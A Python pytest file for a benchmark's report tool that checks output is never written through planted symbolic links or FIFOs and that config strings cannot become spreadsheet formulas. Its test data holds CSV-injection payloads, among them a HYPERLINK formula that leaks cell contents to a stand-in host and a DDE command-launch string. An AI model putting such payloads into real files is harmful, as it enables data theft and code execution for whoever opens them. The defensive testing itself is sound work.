"""The report writes only inside its output folder, never through a symbolic link planted
there, and no text from someone else's config becomes a spreadsheet formula."""

import csv
import os
from pathlib import Path

import pandas as pd
import pytest
from support import RANDOM, config, random_and_entropy, write_run

from deepal_bench.cli import paper, report
from deepal_bench.report.family import Table
from deepal_bench.report.figures import curve_figure
from deepal_bench.report.formats import markdown_table, spreadsheet_safe
from deepal_bench.report.writers import CsvWriter
from deepal_bench.results.io import UnsafePath


@pytest.fixture
def results(tmp_path) -> Path:
    root = tmp_path / "results"
    random_and_entropy(root)
    return root


@pytest.fixture
def outside(tmp_path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "victim").write_text("keep me\n")
    return folder


def untouched(folder: Path) -> bool:
    return [p.name for p in folder.iterdir()] == ["victim"] and (
        (folder / "victim").read_text() == "keep me\n"
    )


def test_figures_are_never_saved_through_links_planted_in_the_report_folder(
    results, outside, capsys
):
    figures = results / "report" / "figures"
    figures.mkdir(parents=True)
    name = "curve_digits_lenet_10+20_10_imle-topk"
    for suffix in ("png", "pdf"):
        (figures / f"{name}.{suffix}").symlink_to(outside / "victim")
    assert report.main([str(results)]) == 2
    err = capsys.readouterr().err
    assert "is or holds a symbolic link or special file" in err and f"{name}.png" in err
    assert untouched(outside)
    assert sorted(p.name for p in figures.iterdir()) == [f"{name}.pdf", f"{name}.png"]


@pytest.mark.parametrize("command", ["report", "paper"])
def test_a_linked_output_folder_is_refused(results, outside, capsys, command):
    out = results / ("report" if command == "report" else "paper_deepal_plus")
    out.symlink_to(outside)
    argv = [str(results)] if command == "report" else ["deepal_plus", str(results)]
    assert (report if command == "report" else paper).main(argv) == 2
    err = capsys.readouterr().err
    assert (
        f"--out '{out}' is or holds a symbolic link or special file: {out} (a symbolic link)"
        in (err)
    )
    assert err.count("\n") == 1 and untouched(outside)


def test_an_output_folder_holding_a_fifo_is_refused(results, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    os.mkfifo(out / "index.md")
    assert report.main([str(results), "--out", str(out), "--no-figures"]) == 2
    assert f"{out / 'index.md'}" in capsys.readouterr().err


def test_a_link_planted_after_the_check_is_replaced_or_refused(tmp_path, outside):
    """The check and the writes are apart in time: each write itself follows no link."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "t.csv").symlink_to(outside / "victim")
    table = Table("t", "T", pd.DataFrame({"strategy": ["random"], "aubc": [0.5]}))
    CsvWriter().write(out, table)
    assert not (out / "t.csv").is_symlink() and untouched(outside)
    (out / "figures").symlink_to(outside)
    frame = pd.DataFrame({"setting": ["s"], "strategy": ["random"], "n_labeled": [10],
                          "accuracy": [0.5], "trial": [0]})  # fmt: skip
    summary = pd.DataFrame({"setting": ["s"], "strategy": ["random"], "aubc_mean": [0.5],
                            "aubc_std": [0.0]})  # fmt: skip
    with pytest.raises(UnsafePath, match="figures is a symbolic link or no folder"):
        curve_figure(frame, summary, "s", out / "figures")
    assert untouched(outside)


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1"]  # fmt: skip


def test_config_text_never_reaches_a_csv_as_a_formula(tmp_path, capsys):
    """`=HYPERLINK(...)` as a strategy name ran as a formula in a spreadsheet."""
    root = tmp_path / "results"
    for i, name in enumerate(FORMULAS):
        cfg = config("random", seed=10 * i, dataset__name=name)
        cfg["strategy"]["name"] = name
        write_run(root / f"run{i}", cfg, RANDOM)
    out = tmp_path / "out"
    assert report.main([str(root), "--out", str(out), "--no-figures"]) == 0
    capsys.readouterr()
    cells = []
    for path in out.glob("*.csv"):
        with open(path, newline="") as handle:
            cells += [c for row in csv.reader(handle) for c in row]
    assert any(c == "'" + FORMULAS[0] for c in cells)
    assert all(not c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert all(not c.startswith("-") or c.lstrip("-").replace(".", "", 1).isdigit() for c in cells)
    markdown = "".join(p.read_text() for p in out.glob("*.md"))
    assert "=HYPERLINK(" in markdown and "'=HYPERLINK" not in markdown  # readable as it is
    assert "+cmd\\|' /C calc'!A0" in markdown  # the | escaped: the table keeps its columns


def test_spreadsheet_safe_keeps_numbers_and_plain_text():
    frame = pd.DataFrame({"name": ["=1+1", "-0.5", "-x", "entropy", "1e-3"], "value": [-1.0] * 5})
    safe = spreadsheet_safe(frame.rename(columns={"value": "=bad"}))
    assert safe["name"].tolist() == ["'=1+1", "-0.5", "'-x", "entropy", "1e-3"]
    assert list(safe.columns) == ["name", "'=bad"] and safe["'=bad"].tolist() == [-1.0] * 5
    assert markdown_table(pd.DataFrame({"a|b": ["x\ny|z"]})) == "| a\\|b |\n|---|\n| x y\\|z |\n"
